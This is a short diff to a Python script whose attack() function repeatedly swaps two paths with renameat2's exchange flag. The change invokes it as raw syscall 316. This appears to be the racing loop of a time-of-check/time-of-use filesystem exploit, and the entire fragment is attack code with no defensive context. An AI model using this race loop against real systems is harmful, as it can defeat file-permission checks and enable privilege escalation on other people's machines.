@@ -17,7 +17,7 @@ def attack():
     end, tries = time.monotonic() + 6, 0
     old, new = (here + "/d").encode(), (here + "/l").encode()
     while time.monotonic() < end or tries < 100000:
-        libc.renameat2(-100, old, -100, new, 2)
+        libc.syscall(316, -100, old, -100, new, 2)    # renameat2, to exchange them
         tries += 1
     return "made"
 
